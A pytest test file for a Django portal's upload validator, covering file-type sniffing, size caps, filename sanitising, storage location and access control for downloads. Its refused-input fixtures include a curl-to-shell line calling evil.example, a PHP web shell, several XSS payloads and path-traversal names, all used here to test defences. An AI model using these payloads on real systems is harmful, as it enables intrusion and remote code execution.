"""Uploads: recognised by content, capped in size, with safe names, stored under MEDIA_ROOT (never among the
static files), and downloaded only by the company that uploaded them and the officers of the call's zone."""

from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from django.utils import translation

from core.uploads import safe_filename, validate_upload
from programs.models import Application, ApplicationDocument
from tests import factories as f
from tests.programs.test_portal_support import PDF, call_with_form, member_of, pdf_upload

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}

HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
    b'<rect width="1" height="1" onload="alert(2)"/></svg>'
)
SVG_WITHOUT_PROLOG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="1"/></svg>'
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"\x80\x00\x00\x00"
    + b"PE\x00\x00" * 16
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 100
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + b"\x00" * 100
SHEBANG = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
PHP = b"name,amount\n<?php system($_GET['c']); ?>,1\n"

REFUSED = [
    ("page.html", HTML),
    ("page.pdf", HTML),
    ("notes.txt", HTML),
    ("drawing.svg", SVG_WITH_SCRIPT),
    ("drawing.txt", SVG_WITH_SCRIPT),
    ("drawing.png", SVG_WITHOUT_PROLOG),
    ("setup.exe", PE),
    ("report.pdf", PE),
    ("tool", ELF),
    ("data.csv", ELF),
    ("app.docx", MACH_O),
    ("readme.txt", MACH_O),
    ("install.sh", SHEBANG),
    ("install.txt", SHEBANG),
    ("figures.csv", PHP),
    ("names.csv", b'company,amount\n"><img src=x onerror=alert(1)>,1\n'),
    ("link.txt", b"see <a href=x onclick=alert(1)>here</a>\n"),
    ("jump.txt", b"open javascript:alert(1)\n"),
]


def upload(name: str, data: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def english_message(error: ValidationError) -> str:
    return " ".join(str(message) for message in error.messages)


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


# --- the validator ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "data"), REFUSED, ids=[name for name, _ in REFUSED])
def test_markup_svg_scripts_and_executables_are_refused_whatever_they_are_called(name, data):
    with pytest.raises(ValidationError) as caught:
        validate_upload(upload(name, data))
    assert caught.value.code == "file_type"
    assert english_message(caught.value) == (
        f"{name}: files of this type cannot be uploaded (PDF, images and office documents only)."
    )


@pytest.mark.parametrize(
    ("name", "data"),
    [("figures.csv", "회사명,매출\n에이,100\n비,<5\n".encode()), ("notes.txt", b"a < b and c > d\n")],
)
def test_plain_text_with_angle_brackets_is_still_accepted(name, data):
    assert validate_upload(upload(name, data)) in ("text/csv", "text/plain")


def test_a_pdf_is_accepted_and_left_at_its_start():
    file = upload("plan.pdf", PDF)
    assert validate_upload(file) == "application/pdf"
    assert file.read() == PDF


@override_settings(UPLOAD_MAX_BYTES=1024)
def test_a_file_over_the_limit_is_refused_with_the_limit():
    with pytest.raises(ValidationError) as caught:
        validate_upload(upload("big.pdf", PDF + b"0" * 2048))
    assert caught.value.code == "file_too_large"
    assert english_message(caught.value) == "big.pdf: the file is too large (2.1 KB); files up to 1 KB can be uploaded."


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\evil.pdf", "evil.pdf"),
        ("/var/www/static/x.pdf", "x.pdf"),
        ("report\x00.pdf", "report.pdf"),
        ("bad\r\nname.pdf", "bad name.pdf"),
        ("\u202egpj.exe", "gpj.exe"),  # right-to-left override dropped: what is shown is what it is
        ('a<b>c:"d|e?*.pdf', "a_b_c__d_e__.pdf"),
        ("..", "file"),
        ("", "file"),
    ],
)
def test_names_lose_folders_control_and_direction_characters(name, safe):
    assert safe_filename(name) == safe


def test_long_names_are_cut_keeping_the_extension():
    name = safe_filename("가" * 400 + ".pdf")
    assert len(name) <= 150
    assert name.endswith(".pdf")


# --- storage ------------------------------------------------------------------------------------------------


def _inside(path: Path, folder: Path) -> bool:
    path, folder = Path(path).resolve(), Path(folder).resolve()
    return path == folder or folder in path.parents


def test_media_root_is_not_among_the_static_files():
    media = Path(settings.MEDIA_ROOT)
    static_folders = [Path(settings.STATIC_ROOT)] + [
        Path(entry[1] if isinstance(entry, tuple | list) else entry) for entry in settings.STATICFILES_DIRS
    ]
    for folder in static_folders:
        assert not _inside(media, folder), f"MEDIA_ROOT {media} is inside the static folder {folder}"
        assert not _inside(folder, media), f"the static folder {folder} is inside MEDIA_ROOT {media}"
    assert settings.MEDIA_URL.strip("/") != settings.STATIC_URL.strip("/")


# --- through the portal's application form --------------------------------------------------------------------


@pytest.fixture
def zone(db):
    return f.ZoneFactory()


@pytest.fixture
def call(zone):
    return call_with_form(zone=zone)


@pytest.fixture
def company(db):
    return f.CompanyFactory(name_ko="주식회사 에이")


@pytest.fixture
def owner(company):
    return member_of(company)


@pytest.fixture
def application(client, call, owner):
    client.force_login(owner)
    client.post(reverse("programs:application_start", args=[call.pk]))
    return Application.objects.get(call=call)


def documents_step(application) -> str:
    return reverse("programs:application_edit", args=[application.pk, 2])


@pytest.mark.parametrize(("name", "data"), REFUSED[::2], ids=[name for name, _ in REFUSED[::2]])
def test_the_portal_form_refuses_a_dangerous_file_with_a_clear_message(client, application, name, data):
    response = client.post(documents_step(application), {"business_plan": upload(name, data), "action": "next"}, **EN)
    assert response.status_code == 200
    assert "files of this type cannot be uploaded (PDF, images and office documents only)." in (
        response.content.decode()
    )
    assert not ApplicationDocument.objects.filter(application=application).exists()


@override_settings(UPLOAD_MAX_BYTES=1024)
def test_the_portal_form_refuses_an_oversized_file(client, application):
    response = client.post(
        documents_step(application), {"business_plan": upload("big.pdf", PDF + b"0" * 4096), "action": "next"}, **EN
    )
    assert response.status_code == 200
    assert "big.pdf: the file is too large" in response.content.decode()
    assert not ApplicationDocument.objects.exists()


def test_the_portal_stores_a_safe_name_and_a_random_file_under_media_root(client, application):
    response = client.post(
        documents_step(application), {"business_plan": pdf_upload("../../static/사업\x07계획서.pdf"), "action": "next"}
    )
    assert response.status_code == 302
    document = ApplicationDocument.objects.get(application=application)
    assert document.original_name == "사업계획서.pdf"
    assert document.content_type == "application/pdf"
    stored = Path(document.file.path)
    assert _inside(stored, Path(settings.MEDIA_ROOT))
    assert "계획서" not in stored.name and ".." not in document.file.name
    assert stored.read_bytes() == PDF


# --- who may download -----------------------------------------------------------------------------------------


@pytest.fixture
def document(client, application):
    client.post(documents_step(application), {"business_plan": pdf_upload(), "action": "next"})
    client.logout()
    return ApplicationDocument.objects.get(application=application)


def download(client, user, document):
    client.force_login(user)
    return client.get(reverse("programs:document_download", args=[document.pk]))


def test_the_owner_downloads_the_document_as_an_attachment(client, owner, document):
    response = download(client, owner, document)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/pdf"


def test_an_officer_of_the_calls_zone_downloads_the_document(client, zone, document):
    officer = f.StaffUserFactory()
    f.ZoneStaffFactory(zone=zone, user=officer)
    response = download(client, officer, document)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_a_user_of_another_company_gets_404(client, document):
    response = download(client, member_of(f.CompanyFactory(name_ko="주식회사 비")), document)
    assert response.status_code == 404


def test_an_officer_of_another_zone_gets_404(client, document):
    officer = f.StaffUserFactory()
    f.ZoneStaffFactory(zone=f.ZoneFactory(), user=officer)
    assert download(client, officer, document).status_code == 404


def test_an_anonymous_visitor_never_gets_the_file(client, document):
    response = client.get(reverse("programs:document_download", args=[document.pk]))
    assert response.status_code in (302, 404)
    assert not getattr(response, "streaming", False)


def test_a_text_document_is_never_served_as_html(client, application, owner):
    client.post(
        documents_step(application),
        {"business_plan": upload("figures.csv", "회사,금액\n에이,100\n".encode(), "text/html"), "action": "next"},
    )
    document = ApplicationDocument.objects.get(application=application)
    response = download(client, owner, document)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "html" not in response["Content-Type"]
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
